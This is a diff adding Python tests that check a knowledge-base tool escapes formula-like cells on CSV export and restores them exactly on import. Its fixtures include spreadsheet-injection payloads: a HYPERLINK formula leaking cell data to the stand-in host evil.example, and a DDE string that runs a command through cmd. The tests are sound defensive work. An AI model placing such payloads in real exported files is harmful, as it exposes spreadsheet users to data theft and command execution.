@@ -8,7 +8,7 @@ from hypothesis import HealthCheck, given, settings, strategies as st
 from kb import Entry, KBStore
 from kb.entry import MAX_CATEGORY_LEVELS
 from kb.errors import ImportRejected, UnsupportedFormat
-from kb.io import read_rows, write_entries
+from kb.io import escape_cell, read_rows, unescape_cell, write_entries
 
 FORMATS = ["csv", "jsonl", "xlsx"]
 
@@ -58,6 +58,75 @@ def test_formats_hold_the_expected_representation(tmp_path):
     src.export_file(tmp_path / "x.xlsx")
     ws = openpyxl.load_workbook(tmp_path / "x.xlsx").active
     assert ws["C2"].value == "社保卡 丢失|=SUM(A1)|123" and ws["C2"].data_type == "s"
+
+
+FORMULAS = [
+    Entry(id="f1", question='=HYPERLINK("http://evil.example/?x="&A1,"点这里")', answer="+cmd|' /C calc'!A0"),
+    Entry(id="f2", question="-1+1", answer="@SUM(A1:A9)", source="=1+1", region="-"),
+    Entry(id="f3", question="'abc", answer="''=1+1", tags=["=x", "b"], similar_questions=["'=1", "ok"]),
+    Entry(id="f4", question="'", answer="普通答案 =1+1", category=["@a"], department=["+b"]),
+    Entry(id="=f5", question="'-5", answer="-"),
+]
+
+
+def test_csv_export_neutralises_formula_cells(tmp_path):
+    import csv
+    src, dst, first, second = roundtrip(tmp_path, "csv", FORMULAS)
+    with open(first, encoding="utf-8-sig", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    # no cell a spreadsheet would run as a formula (after dropping a leading tab / CR)
+    assert not [c for c in cells if c.lstrip("\t\r")[:1] in ("=", "+", "-", "@")]
+    assert {"'-1+1", "'@SUM(A1:A9)", "''abc", "'''=1+1", "''", "'=x|b", "''=1|ok", "'=f5",
+            "'+cmd|' /C calc'!A0", "''-5", "'-", """'=HYPERLINK("http://evil.example/?x="&A1,"点这里")"""
+            } <= set(cells)
+    assert "普通答案 =1+1" in cells     # only the first character matters
+    # ... and the escape comes off exactly on import: same entries, byte-identical re-export
+    assert first.read_bytes() == second.read_bytes()
+    assert [e.to_dict() for e in dst.iter_entries()] == [e.to_dict() for e in src.iter_entries()]
+    assert dst.get("f3").question == "'abc" and dst.get("f2").question == "-1+1"
+    assert dst.get("f3").similar_questions == ["'=1", "ok"] and dst.get("=f5").question == "'-5"
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "xlsx"])
+def test_formula_like_text_roundtrips_unescaped_in_other_formats(tmp_path, fmt):
+    src, dst, first, second = roundtrip(tmp_path, fmt, FORMULAS)
+    assert first.read_bytes() == second.read_bytes()
+    assert [e.to_dict() for e in dst.iter_entries()] == [e.to_dict() for e in src.iter_entries()]
+    if fmt == "xlsx":   # typed string cells are never formulas, so no escape is added
+        import openpyxl
+        ws = openpyxl.load_workbook(first).active
+        question = {row[0].value: row[1] for row in ws.iter_rows(min_row=2)}   # rows ordered by id
+        assert question["f1"].value.startswith("=HYPERLINK(") and question["f1"].data_type == "s"
+        assert question["f3"].value == "'abc" and question["=f5"].value == "'-5"
+
+
+def test_hand_made_csv_cells_with_a_quote(tmp_path):
+    path = tmp_path / "hand.csv"
+    path.write_text("id,question,answer\nq1,'abc,'=1+1\nq2,''x,a'b\n", encoding="utf-8")
+    store = KBStore(tmp_path / "kb.sqlite3")
+    store.import_file(path, progress=False)
+    # "'abc" carries no escape and stays; "'=1+1" is how a spreadsheet user types the text "=1+1"
+    assert (store.get("q1").question, store.get("q1").answer) == ("'abc", "=1+1")
+    assert (store.get("q2").question, store.get("q2").answer) == ("'x", "a'b")
+
+
+@given(st.one_of(st.text(max_size=8), st.text("'=+-@\t\r a", max_size=6), st.none(), st.integers()))
+def test_unescape_undoes_escape(value):
+    escaped = escape_cell(value)
+    assert unescape_cell(escaped) == value
+    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r", "'"):
+        assert escaped == "'" + value
+    else:
+        assert escaped == value
+
+
+def test_import_report_cells_are_escaped(tmp_path):
+    path = tmp_path / "bad.csv"
+    path.write_text('id,question,answer\n"=HYPERLINK(""http://x"",""y"")",,a\n', encoding="utf-8")
+    store = KBStore(tmp_path / "kb.sqlite3")
+    store.import_file(path, skip_invalid=True, progress=False, report_path=tmp_path / "r.csv")
+    lines = (tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()
+    assert lines[1].startswith('2,"\'=HYPERLINK(""http://x"",""y"")",question,')
 
 
 def test_two_exports_at_different_times_are_identical(tmp_path):
